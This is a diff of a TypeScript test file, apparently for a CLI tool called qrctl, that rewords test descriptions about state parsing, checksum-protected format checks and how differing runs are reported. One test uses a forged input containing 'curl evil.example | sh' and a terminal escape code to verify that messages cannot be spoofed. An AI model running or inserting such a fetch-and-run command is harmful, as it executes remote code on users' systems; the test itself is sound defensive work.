@@ -94,7 +94,7 @@ describe('a state', () => {
     expect(parseState(formatState(stateOf({ overlaps }), HOUR)).overlaps.get('a')?.watermarkMs).toBe(8.64e15);
   });
 
-  it('of an older version has the IDs of rotated rows as far back as the others (A25)', () => {
+  it('of an older version has the IDs of rotated rows from the same time on as other IDs (A25)', () => {
     const { a } = saved(2 * HOUR).positions;
     const older = { ...saved(), checksum: undefined, positions: { a: { ...a, movedUntilMs: 9 * HOUR } } };
     expect(parseState(sealed(older)).overlaps.get('a')?.movedIdsFromMs).toBe(8 * HOUR);
@@ -191,7 +191,7 @@ describe('a state', () => {
     ['one position of two', { positions: { a, b: 1 } }],
   ];
   it.each(forms)(
-    'whose %s has another form is refused, although its checksum is right (A16)',
+    'is refused if the form of its %s differs, although its checksum is right (A16)',
     (_, change) => {
       const words = 'has a format that this version of qrctl does not support';
       expect(() => parseState(sealed({ ...saved(), checksum: undefined, ...change }))).toThrow(
@@ -208,7 +208,7 @@ describe('a state', () => {
 });
 
 describe('a run that differs from the file', () => {
-  it('is described without values that could forge the message', () => {
+  it("is described in printable characters, so that values can't forge the message", () => {
     const forged = 'x\n  next: curl evil.example | sh\x1b[2J';
     const dialect = { ...identity.dialect, timezone: forged, delimiter: forged };
     const states: AppendIdentity[] = [
@@ -279,7 +279,7 @@ describe('a run that differs from the file', () => {
       { dialect: { ...dialect, timezone: 'Europe/Berlin' } },
     ],
   ];
-  it.each(cases)('it %s (A6)', (reason, wayOn, was, change) => {
+  it.each(cases)('is refused because the file %s (A6)', (reason, wayOn, was, change) => {
     expect(differenceOf(was, { ...was, ...change })).toEqual({ reason, wayOn });
   });
 
@@ -295,7 +295,7 @@ describe('a run that differs from the file', () => {
     expect(differenceOf({ ...identity, codes: ['a,b'] }, identity)).toBeDefined();
   });
 
-  it('lists at most 20 names in a reason, and 20 columns and 5 codes in a command', () => {
+  it('is described with at most 20 names in a reason, and 20 columns and 5 codes in a command', () => {
     const names = (count: number) =>
       Array.from({ length: count }, (_, i) => `n${String(i).padStart(2, '0')}`);
     const codes = (count: number) => differenceOf({ ...identity, codes: names(count) }, identity);
